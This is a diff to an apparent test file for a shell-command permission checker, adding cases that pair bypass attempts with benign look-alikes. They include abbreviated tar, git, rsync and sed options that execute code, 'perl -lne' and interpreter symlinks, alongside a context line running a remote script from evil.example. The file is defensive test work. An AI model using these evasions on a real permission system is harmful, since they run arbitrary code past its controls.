@@ -38,8 +38,10 @@ for (const name of [
   "bin/other",
 ])
   program(name);
+for (const name of ["python3", "zsh"]) program(`tools/${name}`);
 program("ws/data.txt", 0o644);
 symlinkSync(join(root, "evil/tool"), join(root, "tools/linked"));
+symlinkSync(join(root, "bin/python3"), join(root, "tools/calc"));
 symlinkSync("/bin/sh", join(root, "tools/innocent"));
 
 const patterns = [
@@ -158,6 +160,31 @@ const attacks: Attack[] = [
   ["deno remote script", "deno run https://evil.example/x.ts", "inlineEval", "deno run x.ts"],
   ["bun x", "bun x cowsay", "inlineEval", "bun run x.ts"],
   ["perl -pe", "perl -pe 's/a/b/'", "inlineEval", "perl x.pl"],
+  ["perl -lne", "perl -lne 'system 1'", "inlineEval", "perl -l x.pl"],
+  ["perl -0ne", "perl -0ne 1", "inlineEval", "perl -0 x.pl"],
+  ["perl -i then -e", "perl -i -e 1 x", "inlineEval", "perl -i x.pl"],
+  ["python value before -c", "python3 -W ignore -c 1", "inlineEval", "python3 -W ignore x.py"],
+  ["node value before -e", "node --title x -e 1", "inlineEval", "node --title x y.js"],
+  [
+    "node value of an unknown option before -e",
+    "node --max-http-header-size 9 --eval 1",
+    "inlineEval",
+    "node --inspect y.js",
+  ],
+  ["shell -s dressed as a question", "bash -s --version", "inlineEval", "bash run.sh --version"],
+  ["xargs option that takes no value", "xargs --max-lines rm", "inlineEval", "xargs --max-args 1"],
+  [
+    "abbreviated tar option",
+    "tar xf a.tar --checkpoint-act=exec=sh",
+    "programEscape",
+    "tar xf a.tar --verbose",
+  ],
+  ["abbreviated git option", "git fetch --upload-pa=./x", "programEscape", "git fetch --prune"],
+  ["abbreviated rsync option", "rsync --rs=./x a b", "programEscape", "rsync --archive a b"],
+  ["abbreviated sed option", "sed --exp=1e -f x.sed", "inlineEval", "sed --quiet -f x.sed"],
+  ["interpreter under a wildcard", `${root}/tools/python3 x.py`, "wildcardEntry", `${root}/tools/one x.py`],
+  ["shell under a wildcard", `${root}/tools/zsh x`, "wildcardEntry", `${root}/tools/two x`],
+  ["link to a listed interpreter", `${root}/tools/calc -c 1`, "inlineEval", `${root}/tools/one -c 1`],
   ["perl -M", "perl -Mevil x.pl", "inlineEval", "perl -w x.pl"],
   ["ruby glued -e", "ruby -e1", "inlineEval", "ruby x.rb"],
   ["php -B", "php -B 1", "inlineEval", "php x.php"],
